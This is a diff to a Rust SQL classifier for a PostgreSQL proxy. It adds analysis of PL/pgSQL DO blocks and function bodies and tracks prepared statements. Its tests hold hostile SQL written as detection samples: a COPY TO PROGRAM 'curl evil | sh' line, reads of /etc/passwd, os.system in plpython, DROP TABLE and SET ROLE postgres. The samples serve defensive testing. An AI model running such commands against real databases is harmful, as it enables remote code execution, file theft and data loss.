@@ -10,6 +10,11 @@ use std::collections::BTreeSet;
 use serde::Serialize;
 use serde_json::{Map, Value};
 
+use super::{
+    columns::{self, ColumnReference},
+    plpgsql,
+};
+
 /// What a statement is, for policy. A statement can have several kinds (a SELECT
 /// whose CTE deletes has `select` and `delete`); the first is its primary kind.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
@@ -42,9 +47,10 @@ pub enum Kind {
     Admin,
     /// CALL procedure.
     Call,
-    /// DO block (procedural code, not analysed).
+    /// DO block; its PL/pgSQL body's statements add their kinds.
     Do,
-    /// SQL-level EXECUTE of a prepared statement (its text is not seen here).
+    /// SQL-level EXECUTE of a prepared statement (its text is not seen here; see
+    /// [`super::PreparedStatements::resolve`]).
     Execute,
     /// Protocol-level FunctionCall message (by function OID).
     FunctionCall,
@@ -134,7 +140,9 @@ pub enum Flag {
     /// changes how the server reads SQL text, which the proxy's parser could then read
     /// differently.
     LexerChange,
-    /// SQL whose text is not visible to the parser: DO, EXECUTE, query_to_xml(...).
+    /// SQL whose text is not visible to the parser: EXECUTE of a string in PL/pgSQL (DO
+    /// blocks, function bodies), SQL-level EXECUTE of an unknown prepared statement,
+    /// query_to_xml(...), and function bodies in languages other than plpgsql and sql.
     DynamicSql,
     /// A function with effects outside the statement: files, large objects, dblink,
     /// signalling backends, reloading configuration, replication slots.
@@ -203,6 +211,24 @@ pub struct Statement {
     /// Functions called, as written (`lower`, `pg_catalog.pg_read_file`).
     pub functions: BTreeSet<String>,
     pub flags: BTreeSet<Flag>,
+    /// Columns used to filter, join, sort, group or partition (for the masking
+    /// side-channel guard), sorted and deduplicated.
+    pub columns: Vec<ColumnReference>,
+    /// PREPARE / EXECUTE / DEALLOCATE at the SQL level: the name involved, so a session
+    /// can judge an EXECUTE by what was prepared ([`super::PreparedStatements`]).
+    pub prepared: Option<Prepared>,
+}
+
+/// What a statement does to the session's named prepared statements.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case", tag = "op", content = "name")]
+pub enum Prepared {
+    /// `PREPARE name AS ...`: this statement is classified as the prepared query.
+    Prepare(String),
+    /// `EXECUTE name(...)`.
+    Execute(String),
+    /// `DEALLOCATE name`; `None` for DEALLOCATE ALL and DISCARD (which may drop them all).
+    Deallocate(Option<String>),
 }
 
 impl Statement {
@@ -234,6 +260,27 @@ pub enum Unclassifiable {
 /// Call it on a thread with a large stack (see [`super::Classifier`]): the tree
 /// conversion and walk recurse as deep as the statement nests.
 pub fn classify(text: &str, max_len: usize) -> Result<Vec<Statement>, Unclassifiable> {
+    classify_at(text, max_len, 0, 0)
+}
+
+/// An SQL statement or expression embedded in procedural code, parsed in the grammar
+/// mode the server uses for it (`pg_query::ParserOptions`: 0 statement, 2 expression,
+/// 3-5 assignment). `depth` counts enclosing procedural bodies.
+pub(super) fn classify_fragment(
+    text: &str,
+    max_len: usize,
+    mode: i32,
+    depth: usize,
+) -> Result<Vec<Statement>, Unclassifiable> {
+    classify_at(text, max_len, mode, depth)
+}
+
+fn classify_at(
+    text: &str,
+    max_len: usize,
+    mode: i32,
+    depth: usize,
+) -> Result<Vec<Statement>, Unclassifiable> {
     if text.len() > max_len {
         return Err(Unclassifiable::TooLong {
             len: text.len(),
@@ -243,7 +290,7 @@ pub fn classify(text: &str, max_len: usize) -> Result<Vec<Statement>, Unclassifi
     if text.as_bytes().contains(&0) {
         return Err(Unclassifiable::Nul);
     }
-    let parsed = pg_query::parse(text, 0).map_err(|e| Unclassifiable::Syntax(error_text(e)))?;
+    let parsed = pg_query::parse(text, mode).map_err(|e| Unclassifiable::Syntax(error_text(e)))?;
     let mut out = Vec::with_capacity(parsed.protobuf.stmts.len());
     for raw in &parsed.protobuf.stmts {
         let stmt_text = slice(text, raw.stmt_location, raw.stmt_len);
@@ -252,9 +299,14 @@ pub fn classify(text: &str, max_len: usize) -> Result<Vec<Statement>, Unclassifi
         };
         let value = serde_json::to_value(node.as_ref())
             .map_err(|e| Unclassifiable::Internal(e.to_string()))?;
-        let fingerprint = pg_query::fingerprint(stmt_text, 0, 0)
-            .map(|f| f.hex)
-            .map_err(|e| Unclassifiable::Syntax(error_text(e)))?;
+        // Fingerprints group top-level executions; embedded fragments need none.
+        let fingerprint = if depth == 0 && mode == 0 {
+            pg_query::fingerprint(stmt_text, 0, 0)
+                .map(|f| f.hex)
+                .map_err(|e| Unclassifiable::Syntax(error_text(e)))?
+        } else {
+            String::new()
+        };
         let mut st = Statement {
             text: stmt_text.to_owned(),
             fingerprint,
@@ -263,11 +315,14 @@ pub fn classify(text: &str, max_len: usize) -> Result<Vec<Statement>, Unclassifi
             writes: BTreeSet::new(),
             functions: BTreeSet::new(),
             flags: BTreeSet::new(),
+            columns: Vec::new(),
+            prepared: None,
         };
         let (ty, inner) = node_of(&value)
             .ok_or_else(|| Unclassifiable::Unsupported("statement without a node".into()))?;
         let primary = top_kind(ty, inner, &mut st.flags)?;
         st.kinds.push(primary);
+        st.prepared = prepared_of(ty, inner);
         let mut walk = Walk {
             st: &mut st,
             ddl: primary == Kind::Ddl
@@ -276,9 +331,99 @@ pub fn classify(text: &str, max_len: usize) -> Result<Vec<Statement>, Unclassifi
                 || primary == Kind::Maintenance,
         };
         walk.value(&value, &[]);
+        st.columns = columns::references(&value);
+        procedural(ty, inner, stmt_text, &mut st, max_len, depth)?;
         out.push(st);
     }
     Ok(out)
+}
+
+/// The SQL-level prepared statement a statement names, if any.
+fn prepared_of(ty: &str, inner: &Map<String, Value>) -> Option<Prepared> {
+    let name = || inner.get("name").and_then(Value::as_str).map(str::to_owned);
+    match ty {
+        "PrepareStmt" => name().map(Prepared::Prepare),
+        "ExecuteStmt" => name().map(Prepared::Execute),
+        "DeallocateStmt" => Some(Prepared::Deallocate(
+            name().filter(|n| !n.is_empty() && !bool_field(inner, "isall")),
+        )),
+        "DiscardStmt" => Some(Prepared::Deallocate(None)),
+        _ => None,
+    }
+}
+
+/// DO blocks and function bodies: PL/pgSQL is analysed statement by statement, SQL bodies
+/// are classified, other languages are not understood (DO: refused; CREATE FUNCTION:
+/// flagged `dynamic_sql`, as what the body does is not visible).
+fn procedural(
+    ty: &str,
+    inner: &Map<String, Value>,
+    stmt_text: &str,
+    st: &mut Statement,
+    max_len: usize,
+    depth: usize,
+) -> Result<(), Unclassifiable> {
+    let (options, is_do) = match ty {
+        "DoStmt" => (inner.get("args"), true),
+        "CreateFunctionStmt" => (inner.get("options"), false),
+        _ => return Ok(()),
+    };
+    let mut language = None;
+    let mut body = None;
+    for (name, arg) in options
+        .and_then(Value::as_array)
+        .into_iter()
+        .flatten()
+        .filter_map(node_of)
+        .filter(|(t, _)| *t == "DefElem")
+        .map(|(_, d)| (d.get("defname").and_then(Value::as_str), d.get("arg")))
+    {
+        match name {
+            Some("language") => language = arg.and_then(string_node),
+            // DO: a String; CREATE FUNCTION: a List of one String (or two for C: file, symbol).
+            Some("as") => {
+                body = arg.and_then(string_node).or_else(|| {
+                    arg.and_then(node_of)
+                        .filter(|(t, _)| *t == "List")
+                        .and_then(|(_, l)| l.get("items")?.as_array()?.last().and_then(string_node))
+                });
+            }
+            _ => {}
+        }
+    }
+    // The server compares language names exactly (identifiers are already lower-cased).
+    match (language.as_deref(), body.as_deref()) {
+        (Some("plpgsql") | None, Some(body)) => {
+            plpgsql::merge_body(stmt_text, body, st, max_len, depth)
+        }
+        (Some("sql"), Some(body)) if !is_do => {
+            if depth + 1 >= plpgsql::MAX_DEPTH {
+                return Err(Unclassifiable::Unsupported(
+                    "SQL function nested too deep".into(),
+                ));
+            }
+            for inner in classify_fragment(body, max_len, 0, depth + 1)? {
+                plpgsql::merge(st, inner, true);
+            }
+            Ok(())
+        }
+        // BEGIN ATOMIC / RETURN bodies are part of the parse tree and already walked.
+        (Some("sql"), None) if !is_do => Ok(()),
+        (lang, _) if is_do => Err(Unclassifiable::Unsupported(format!(
+            "DO block in language {}",
+            lang.unwrap_or("?")
+        ))),
+        _ => {
+            st.flags.insert(Flag::DynamicSql);
+            Ok(())
+        }
+    }
+}
+
+fn string_node(v: &Value) -> Option<String> {
+    node_of(v)
+        .filter(|(t, _)| *t == "String")
+        .and_then(|(_, s)| s.get("sval")?.as_str().map(str::to_owned))
 }
 
 fn error_text(e: pg_query::Error) -> String {
@@ -300,11 +445,11 @@ fn slice(text: &str, location: i32, len: i32) -> &str {
 }
 
 /// `{"node": {"SelectStmt": {...}}}` or `{"SelectStmt": {...}}` -> ("SelectStmt", {...}).
-fn node_of(v: &Value) -> Option<(&str, &Map<String, Value>)> {
+pub(super) fn node_of(v: &Value) -> Option<(&str, &Map<String, Value>)> {
     node_of_map(v.as_object()?)
 }
 
-fn node_of_map(map: &Map<String, Value>) -> Option<(&str, &Map<String, Value>)> {
+pub(super) fn node_of_map(map: &Map<String, Value>) -> Option<(&str, &Map<String, Value>)> {
     let map = match map.get("node") {
         Some(Value::Object(inner)) if map.len() == 1 => inner,
         _ => map,
@@ -448,10 +593,10 @@ fn top_kind(
         | "AlterPolicyStmt"
         | "AlterOwnerStmt" => Kind::Dcl,
         "CallStmt" => Kind::Call,
-        "DoStmt" => {
-            flags.insert(Flag::DynamicSql);
-            Kind::Do
-        }
+        // The body is analysed by `procedural`.
+        "DoStmt" => Kind::Do,
+        // A PL/pgSQL assignment (`x := expr`, only from procedural code) evaluates a SELECT.
+        "PlassignStmt" => Kind::Select,
         "ExecuteStmt" => {
             flags.insert(Flag::DynamicSql);
             Kind::Execute
@@ -632,7 +777,7 @@ impl Walk<'_> {
                     }
                 }
             }
-            "DoStmt" | "ExecuteStmt" => {
+            "ExecuteStmt" => {
                 self.st.flags.insert(Flag::DynamicSql);
             }
             "VariableSetStmt" => match inner.get("name").and_then(Value::as_str) {
@@ -792,7 +937,7 @@ fn is_side_effect_function(name: &str) -> bool {
 }
 
 /// Functions that run SQL given to them as a string or name a relation by string.
-fn is_dynamic_sql_function(name: &str) -> bool {
+pub(super) fn is_dynamic_sql_function(name: &str) -> bool {
     matches!(
         name,
         "query_to_xml"
@@ -967,13 +1112,163 @@ mod tests {
     }
 
     #[test]
-    fn do_and_execute_are_dynamic() {
-        let s = one("DO $$ BEGIN EXECUTE 'drop table t'; END $$");
+    fn do_is_judged_by_its_body() {
+        let s = one("DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM public.orders; END $$");
+        assert_eq!(s.kinds, vec![Kind::Do, Kind::Select]);
+        assert_eq!(s.tables.iter().collect::<Vec<_>>(), ["public.orders"]);
+        assert!(s.flags.is_empty(), "{:?}", s.flags);
+        let s = one("DO $$ BEGIN IF now() > '2020-01-01' THEN RAISE NOTICE 'x'; END IF; END $$");
+        assert_eq!(
+            s.kinds,
+            vec![Kind::Do],
+            "an expression without tables adds no kind"
+        );
+        let s = one(
+            "DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM s.t LOOP              DELETE FROM s.t WHERE id = r.id; END LOOP; END $$",
+        );
         assert_eq!(s.kind(), Kind::Do);
+        assert!(s.kinds.contains(&Kind::Select) && s.kinds.contains(&Kind::Delete));
+        assert!(s.writes.contains("s.t"));
+        let s =
+            one("DO $$ DECLARE x int := (SELECT max(id) FROM secret.k); BEGIN x := x + 1; END $$");
+        assert!(
+            s.tables.contains("secret.k"),
+            "DECLARE defaults are classified"
+        );
+        let s = one("DO $$ DECLARE x int; BEGIN x := (SELECT max(id) FROM secret.k); END $$");
+        assert!(s.tables.contains("secret.k"), "assignments are classified");
+        let s =
+            one("DO $$ DECLARE c CURSOR FOR SELECT * FROM secret.k; BEGIN OPEN c; CLOSE c; END $$");
+        assert!(
+            s.tables.contains("secret.k"),
+            "cursor queries are classified"
+        );
+        let s = one("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); COMMIT; END $$");
+        assert!(s.flags.contains(&Flag::SideEffectFunction));
+        assert!(s.kinds.contains(&Kind::Transaction));
+        // No dynamic SQL: no dynamic_sql flag.
+        assert!(!s.flags.contains(&Flag::DynamicSql));
+    }
+
+    #[test]
+    fn do_with_dynamic_sql_is_flagged_wherever_it_hides() {
+        for sql in [
+            "DO $$ BEGIN EXECUTE 'drop table t'; END $$",
+            "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$",
+            "DO $$ BEGIN BEGIN BEGIN EXECUTE 'x'; END; END; END $$",
+            "DO $$ BEGIN PERFORM 1; EXCEPTION WHEN others THEN EXECUTE 'delete from t'; END $$",
+            "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$",
+            "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$",
+            "DO $$ BEGIN IF true THEN LOOP EXIT WHEN true; EXECUTE 'x'; END LOOP; END IF; END $$",
+        ] {
+            let s = one(sql);
+            assert_eq!(s.kind(), Kind::Do, "{sql}");
+            assert!(s.flags.contains(&Flag::DynamicSql), "{sql}");
+        }
+        let s = one("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$");
+        assert!(
+            s.functions.contains("format"),
+            "the EXECUTE's expression is still classified"
+        );
+        let s = one(
+            "CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'select 1'; END $$",
+        );
+        assert_eq!(s.kind(), Kind::Ddl);
         assert!(s.flags.contains(&Flag::DynamicSql));
-        assert_eq!(one("EXECUTE p(1)").kind(), Kind::Execute);
-        let s = one("PREPARE p AS DELETE FROM t");
-        assert_eq!(s.kind(), Kind::Delete);
+    }
+
+    #[test]
+    fn do_running_risky_sql_carries_its_flags() {
+        let s = one("DO $$ BEGIN COPY (SELECT 1) TO PROGRAM 'curl evil | sh'; END $$");
+        assert!(s.flags.contains(&Flag::CopyProgram));
+        assert!(s.kinds.contains(&Kind::CopyOut));
+        let s = one("DO $$ BEGIN SET ROLE postgres; END $$");
+        assert!(s.flags.contains(&Flag::RoleChange));
+        let s = one("DO $$ BEGIN DELETE FROM t; END $$");
+        assert!(s.flags.contains(&Flag::DeleteWithoutWhere));
+        assert!(s.kinds.contains(&Kind::Delete));
+        let s = one("DO $outer$ BEGIN DO $inner$ BEGIN EXECUTE 'x'; END $inner$; END $outer$");
+        assert!(
+            s.flags.contains(&Flag::DynamicSql),
+            "a DO inside a DO is analysed too"
+        );
+        let s = one("DO $$ BEGIN PERFORM 1 FROM hr.people WHERE ssn LIKE '5%'; END $$");
+        assert!(s.columns.iter().any(|c| c.column == "ssn"));
+    }
+
+    #[test]
+    fn unanalysable_procedural_code_is_refused() {
+        for sql in [
+            "DO LANGUAGE plpython3u $$ import os; os.system('id') $$",
+            "DO LANGUAGE 'PLPGSQL' $$ BEGIN EXECUTE 'x'; END $$",
+            "DO $$ BEGIN SELEC 1; END $$",
+            "DO $$ DECLARE r record := (SELECT * FROM secret LIMIT 1); BEGIN END $$",
+        ] {
+            assert!(
+                matches!(
+                    classify(sql, 1 << 20),
+                    Err(Unclassifiable::Unsupported(_) | Unclassifiable::Syntax(_))
+                ),
+                "{sql}: {:?}",
+                classify(sql, 1 << 20)
+            );
+        }
+        let mut nested = "SELECT 1".to_owned();
+        for i in 0..10 {
+            nested = format!("DO $d{i}$ BEGIN {nested}; END $d{i}$");
+        }
+        assert!(classify(&nested, 1 << 20).is_err(), "nesting is bounded");
+    }
+
+    #[test]
+    fn function_bodies() {
+        let s = one(
+            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM audit.log RETURNING 1'",
+        );
+        assert_eq!(s.kinds, vec![Kind::Ddl, Kind::Delete]);
+        assert!(s.tables.contains("audit.log"));
+        let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'return 1'");
+        assert_eq!(s.kind(), Kind::Ddl);
+        assert!(s.flags.contains(&Flag::DynamicSql), "body not analysable");
+        let s = one(
+            "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = 1 WHERE b = 2; END $$",
+        );
+        assert_eq!(s.kinds, vec![Kind::Ddl, Kind::Update]);
+        assert!(!s.flags.contains(&Flag::DynamicSql));
+    }
+
+    #[test]
+    fn prepare_is_its_query_and_execute_names_it() {
+        let p = one("PREPARE p(int) AS DELETE FROM t WHERE id = $1");
+        assert_eq!(p.kind(), Kind::Delete);
+        assert_eq!(p.prepared, Some(Prepared::Prepare("p".into())));
+        let e = one("EXECUTE p(1)");
+        assert_eq!(e.kind(), Kind::Execute);
+        assert!(e.flags.contains(&Flag::DynamicSql));
+        assert_eq!(e.prepared, Some(Prepared::Execute("p".into())));
+        let mut ps = super::super::PreparedStatements::new();
+        assert!(ps.resolve(&e).is_none(), "unknown name: judged as execute");
+        ps.completed(&p);
+        let r = ps.resolve(&e).unwrap();
+        assert_eq!(r.kinds, vec![Kind::Delete]);
+        assert!(r.writes.contains("public.t"));
+        assert!(!r.flags.contains(&Flag::DynamicSql));
+        assert_eq!(r.text, "EXECUTE p(1)");
+        let e2 = one("EXECUTE p(length(pg_read_file('/etc/passwd')))");
+        assert!(
+            ps.resolve(&e2)
+                .unwrap()
+                .flags
+                .contains(&Flag::SideEffectFunction)
+        );
+        ps.completed(&one("DEALLOCATE p"));
+        assert!(ps.resolve(&e).is_none());
+        ps.completed(&p);
+        ps.completed(&one("DISCARD ALL"));
+        assert!(ps.is_empty());
+        ps.completed(&p);
+        ps.completed(&one("DEALLOCATE ALL"));
+        assert!(ps.is_empty());
     }
 
     #[test]
